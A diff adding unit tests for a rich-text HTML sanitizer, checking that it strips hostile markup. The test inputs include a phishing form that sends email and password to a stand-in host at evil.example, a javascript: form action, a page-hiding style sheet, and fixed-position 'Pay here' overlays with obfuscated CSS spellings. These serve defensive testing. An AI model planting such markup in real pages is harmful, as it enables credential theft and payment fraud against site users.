@@ -33,6 +33,32 @@ describe('sanitizeRichText', () => {
     );
   });
 
+  it('drops forms posting to another site, password fields and style sheets, keeps forms of the shop', () => {
+    const phishing =
+      '<p>Sign in again</p><form action="https://evil.example/steal" method="post"><input name="email"><input type="password" name="p"><button>Go</button></form>';
+    expect(sanitizeRichText(phishing)).toBe('<p>Sign in again</p>');
+    for (const action of ['//evil.example/x', 'HTTP://evil.example', 'mailto:a@evil.example'])
+      expect(sanitizeRichText(`<form action="${action}"><input name="q"></form><p>a</p>`), action).toBe('<p>a</p>');
+    expect(sanitizeRichText('<form action="/search"><input name="q"><input type=" Password "></form>')).toBe(
+      '<form action="/search"><input name="q"></form>',
+    );
+    expect(sanitizeRichText('<form><button formaction="https://evil.example">x</button></form>')).toBe('<form><button>x</button></form>');
+    // a script address goes with DOMPurify; the form then posts to the page it is on
+    expect(sanitizeRichText('<form action="javascript:alert(1)"><input name="q"></form>')).toBe('<form><input name="q"></form>');
+    expect(sanitizeRichText('<style>body{display:none}</style><p>a</p>')).toBe('<p>a</p>');
+  });
+
+  it('drops positions that lay an element over the page, whatever the spelling, and keeps other styles', () => {
+    expect(sanitizeRichText('<div style="position:fixed;inset:0;z-index:9999;background:#fff">Pay here</div>')).toBe(
+      '<div style="inset:0;z-index:9999;background:#fff">Pay here</div>',
+    );
+    for (const style of ['POSITION: Fixed', 'position:absolute', 'position: sticky', 'position/**/:fixed !important', 'pos\\69 tion:fixed'])
+      expect(sanitizeRichText(`<div style="${style}">x</div>`), style).toBe('<div>x</div>');
+    expect(sanitizeRichText('<p style="position: relative; text-align: center">x</p>')).toBe(
+      '<p style="position: relative; text-align: center">x</p>',
+    );
+  });
+
   it('returns an empty string for empty input', () => {
     expect(sanitizeRichText('')).toBe('');
   });
